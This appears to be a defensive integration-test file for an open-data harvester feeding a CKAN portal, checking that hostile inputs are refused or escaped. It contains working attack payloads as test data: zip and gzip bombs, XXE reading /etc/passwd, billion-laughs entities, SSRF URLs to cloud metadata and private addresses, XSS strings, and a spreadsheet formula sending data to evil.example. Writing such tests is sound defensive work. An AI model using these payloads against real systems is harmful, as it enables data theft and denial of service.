"""A corpus of hostile and broken inputs, each harvested by the real command into the live CKAN.

One row per input: what the source serves, and what must come of it — the
exit code, the dataset's status and error code, and what is published (for
refused inputs: nothing). The parsers' unit tests (tests/harvesters/) show
the same inputs are recognised; here they travel the whole way, so a
refusal is also a refusal to publish, and what is published is safe to look at.
"""

from __future__ import annotations

import csv
import gzip
import io
import re
import time
import zipfile
from pathlib import Path

import pytest
import requests
import yaml

from tests.harvesting import city_datasets, report
from vierstaedte_contract.dataset import NORMALISED, resource_with_role

KOBLENZ_TABLE = "/files/koblenz/einwohner-stadtteile.csv"
TRIER_CATALOGUE = "dcat/catalog.rdf"
RDF_HEAD = (
    '<?xml version="1.0"?>\n{doctype}\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
    'xmlns:dcat="http://www.w3.org/ns/dcat#" xmlns:dct="http://purl.org/dc/terms/">\n'
    '<dcat:Dataset rdf:about="https://example.org/ds"><dct:title>{title}</dct:title></dcat:Dataset>\n</rdf:RDF>\n'
)


def koblenz_file(replay, body: bytes) -> None:
    (replay.root / KOBLENZ_TABLE.lstrip("/")).write_bytes(body)


def koblenz_bytes(replay) -> bytes:
    return (replay.root / KOBLENZ_TABLE.lstrip("/")).read_bytes()


def set_http(harvest, city: str, **settings) -> None:
    path = harvest.configs / f"{city}.yaml"
    config = yaml.safe_load(path.read_text(encoding="utf-8"))
    config["http"].update(settings)
    path.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")


def xlsx_bomb() -> bytes:
    """An .xlsx of ~200 KB whose sheet unpacks to 60 MB (845,000 rows): openpyxl alone takes ~20 s
    and 350 MB."""
    row = b'<row><c t="inlineStr"><is><t>Altstadt</t></is></c><c><v>1</v></c></row>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"/>',
        )
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            for _ in range(85):
                sheet.write(row * 10_000)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return RDF_HEAD.format(
        doctype=f"<!DOCTYPE rdf:RDF [{''.join(entities)}]>", title="&lol9;"
    ).encode()


def xxe() -> bytes:
    return RDF_HEAD.format(
        doctype='<!DOCTYPE rdf:RDF [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        title="&secret;",
    ).encode()


def private_manifest(harvest, replay, urls: list[str], allow: bool) -> None:
    """Koblenz from a manifest on disk (no catalogue request at all) whose files point where they
    should not."""
    entries = [
        {
            "id": f"datei-{n}",
            "title": f"Einwohner nach Stadtteilen {n}",
            "files": [{"url": url, "format": "CSV"}],
        }
        for n, url in enumerate(urls)
    ]
    manifest = harvest.configs / "koblenz-manifest.yaml"
    manifest.write_text(yaml.safe_dump({"datasets": entries}), encoding="utf-8")
    path = harvest.configs / "koblenz.yaml"
    config = yaml.safe_load(path.read_text(encoding="utf-8"))
    config["source"] = {"protocol": "manifest", "path": str(manifest)}
    config["http"]["allow_private_addresses"] = allow
    path.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")


# id: (city, prepare(harvest, replay), exit code, [(status, error code)] of the datasets that matter)
CORPUS = {
    "malformed-csv-extra-cells": (
        "koblenz",
        lambda h, r: koblenz_file(
            r,
            koblenz_bytes(r).replace(
                b"Altstadt;31.12.2023;5.214", b"Altstadt;31.12.2023;5.214;;;;;;99", 1
            ),
        ),
        1,
        [("rejected", "malformed-row")],
    ),
    "malformed-csv-open-quote": (
        "koblenz",
        lambda h, r: koblenz_file(r, koblenz_bytes(r).replace(b"Altstadt;", b'"Altstadt;', 1)),
        1,
        [("rejected", "truncated-file")],
    ),
    "wrong-encoding-utf16-without-bom": (
        "koblenz",
        lambda h, r: koblenz_file(r, koblenz_bytes(r).decode("cp1252").encode("utf-16-le")),
        1,
        [("rejected", "encoding-error")],
    ),
    "wrong-encoding-mojibake": (
        "koblenz",
        lambda h, r: koblenz_file(
            r, koblenz_bytes(r).decode("cp1252").encode("utf-8").decode("latin-1").encode("utf-8")
        ),
        1,
        [("rejected", "encoding-error")],
    ),
    "binary-garbage": (
        "koblenz",
        lambda h, r: koblenz_file(r, bytes(range(256)) * 40),
        1,
        [("rejected", "encoding-error")],
    ),
    "oversized-download": (
        "koblenz",
        lambda h, r: (
            set_http(h, "koblenz", max_bytes=5000),
            koblenz_file(r, koblenz_bytes(r) + b"Altstadt;31.12.2023;1;1;1;1\n" * 500),
        ),
        1,
        [("errored", "too-large")],
    ),
    "gzip-bomb-download": (
        "koblenz",
        lambda h, r: (
            set_http(h, "koblenz", max_bytes=1_000_000),
            r.faults.update(
                {
                    KOBLENZ_TABLE: {
                        "body": gzip.compress(b"\0" * 50_000_000),
                        "content_type": "text/csv",
                        "headers": {"Content-Encoding": "gzip"},
                        "times": 5,
                    }
                }
            ),
        ),
        1,
        [("errored", "too-large")],
    ),
    "xlsx-zip-bomb": (
        "koblenz",
        lambda h, r: koblenz_file(r, xlsx_bomb()),
        1,
        [("rejected", "too-large")],
    ),
    "loopback-and-private-urls": (
        "koblenz",
        lambda h, r: private_manifest(
            h,
            r,
            [
                "http://169.254.169.254/latest/meta-data/",
                "http://10.0.0.1/einwohner.csv",
                "http://[::1]/einwohner.csv",
                r.base + KOBLENZ_TABLE,
            ],
            allow=False,
        ),
        1,
        [("errored", "private-address")] * 4,
    ),
    "shared-and-mapped-addresses": (
        "koblenz",
        lambda h, r: private_manifest(
            h,
            r,
            [
                "http://100.64.0.1/einwohner.csv",
                "http://0.0.0.0/einwohner.csv",
                r.base.replace("127.0.0.1", "[::ffff:127.0.0.1]") + KOBLENZ_TABLE,
            ],
            allow=False,
        ),
        1,
        [("errored", "private-address")] * 3,
    ),
}


@pytest.mark.usefixtures("with_plugins")
@pytest.mark.parametrize("case", CORPUS)
def test_refused_and_nothing_published(harvest, replay, case):
    city, prepare, code, expected = CORPUS[case]
    prepare(harvest, replay)
    started = time.monotonic()
    done = harvest(city)
    assert done.returncode == code, done.stdout + done.stderr
    assert time.monotonic() - started < 30
    outcome = [(d["status"], d["errors"][0]["code"]) for d in report(done)["datasets"]]
    assert outcome == expected, report(done)["datasets"]
    assert city_datasets(city) == {}


@pytest.mark.usefixtures("with_plugins")
def test_private_urls_are_fetched_when_the_config_allows_them(harvest, replay):
    private_manifest(harvest, replay, [replay.base + KOBLENZ_TABLE], allow=True)
    done = harvest("koblenz")
    assert done.returncode == 0, done.stdout + done.stderr
    assert [d["status"] for d in report(done)["datasets"]] == ["added"]


@pytest.mark.usefixtures("with_plugins")
@pytest.mark.parametrize("document", [xxe, billion_laughs], ids=["xxe", "billion-laughs"])
def test_hostile_dcat_catalogue_is_refused_and_withdraws_nothing(harvest, replay, document):
    assert harvest("trier").returncode == 0
    published = sorted(city_datasets("trier"))
    (replay.root / TRIER_CATALOGUE).write_bytes(document())
    started = time.monotonic()
    done = harvest("trier")
    assert time.monotonic() - started < 30
    assert done.returncode == 1, done.stdout + done.stderr
    summary = report(done)
    assert (
        summary["source_errors"][0]["code"] == "source-error"
        and "XML entity" in summary["source_errors"][0]["message"]
    )
    assert "root:" not in done.stdout + done.stderr + str(
        summary
    )  # /etc/passwd stayed where it was
    assert sorted(city_datasets("trier")) == published  # an unreadable catalogue withdraws nothing
    assert all(d["state"] == "active" for d in city_datasets("trier").values())


SCRIPT = '<script>alert("xss")</script>'


@pytest.mark.usefixtures("with_plugins")
def test_html_and_script_from_a_source_render_escaped(harvest, platform, replay):
    package = replay.root / "ckan" / "packages" / "einwohner-ortsbezirke-mainz.json"
    text = package.read_text(encoding="utf-8")
    text = text.replace(
        '"title": "Einwohner nach Ortsbezirken"',
        f'"title": "Einwohner nach Ortsbezirken {SCRIPT.replace(chr(34), chr(92) + chr(34))}"',
    )
    text = text.replace(
        '"notes": "Einwohner',
        '"notes": "<img src=x onerror=alert(1)> [Klick](javascript:alert(2)) '
        + SCRIPT.replace('"', '\\"')
        + " Einwohner",
    )
    package.write_text(text, encoding="utf-8")
    done = harvest("mainz")
    assert done.returncode == 0, done.stdout + done.stderr
    dataset = next(
        d for d in city_datasets("mainz").values() if SCRIPT in d["title"]
    )  # kept as text, not stripped
    pages = {
        "dataset": f"/dataset/{dataset['name']}",
        "search": "/dataset/?q=Ortsbezirken",
        "city": "/organization/mainz",
        "harvest runs": "/staedte/mainz/harvest",
        "resource": f"/dataset/{dataset['name']}/resource/{resource_with_role(dataset, NORMALISED)['id']}",
    }
    for what, path in pages.items():
        html = requests.get(platform["url"] + path, timeout=30).text
        assert what == "harvest runs" or "Einwohner nach Ortsbezirken" in html, what
        assert SCRIPT not in html, what
        assert not re.search(r"<img[^>]*onerror", html, re.I), what
        assert not re.search(r"href=[\"']?javascript:", html, re.I), what
    html = requests.get(platform["url"] + pages["dataset"], timeout=30).text
    assert (
        "&lt;script&gt;alert(&#34;xss&#34;)&lt;/script&gt;" in html
        or "&lt;script&gt;alert(&quot;xss&quot;)" in html
    )


@pytest.mark.usefixtures("with_plugins")
def test_formula_in_a_source_header_is_neutralised_in_every_csv(harvest, platform, replay):
    table = replay.root / "files" / "mainz" / "stadtratswahl-2024-ortsbezirke.csv"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Liste")'
    table.write_bytes(
        table.read_bytes().replace(
            b"DIE LINKE;DIE LINKE_Proz", f"{formula};{formula}_Proz".encode("cp1252")
        )
    )
    # the shipped mapping names its parties; catch-all rules let any header in as one
    config = harvest.configs / "mainz.yaml"
    city = yaml.safe_load(config.read_text(encoding="utf-8"))
    wahl = next(t for t in city["tables"] if t["mapping"].endswith("wahl-ortsbezirke.yaml"))
    rules = yaml.safe_load(Path(wahl["mapping"]).read_text(encoding="utf-8"))
    party = {"dimension": "party"}
    rules["values"] += [
        {"match": "(?P<dimension_value>.+)_Proz", "indicator": "vote_share_by_party", **party},
        {"match": "(?P<dimension_value>.+)", "indicator": "votes_by_party", **party},
    ]
    wahl["mapping"] = str(harvest.configs / "wahl-catch-all.yaml")
    Path(wahl["mapping"]).write_text(yaml.safe_dump(rules, allow_unicode=True), encoding="utf-8")
    config.write_text(yaml.safe_dump(city, allow_unicode=True), encoding="utf-8")
    done = harvest("mainz")
    assert done.returncode == 0, done.stdout + done.stderr
    election = next(d for d in city_datasets("mainz").values() if "wahl" in d["title"].lower())
    normalised = resource_with_role(election, NORMALISED)
    downloads = {
        "normalised CSV": requests.get(normalised["url"], timeout=30).text,
        "DataStore dump": requests.get(
            f"{platform['url']}/datastore/dump/{normalised['id']}", timeout=30
        ).text,
        "comparison CSV": requests.get(
            f"{platform['url']}/vergleich.csv",
            params={"indicator": "votes_by_party", "area_level": "ortsbezirk", "cities": "mainz"},
            timeout=30,
        ).text,
    }
    for what, text in downloads.items():
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert len(cells) > 10, what
        assert not [
            c
            for c in cells
            if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not re.match(r"^-\d", c))
        ], what
    normalised_cells = {
        cell for row in csv.reader(io.StringIO(downloads["normalised CSV"])) for cell in row
    }
    assert (
        "'" + formula in normalised_cells
    )  # the party's name is kept, as text a spreadsheet will not run
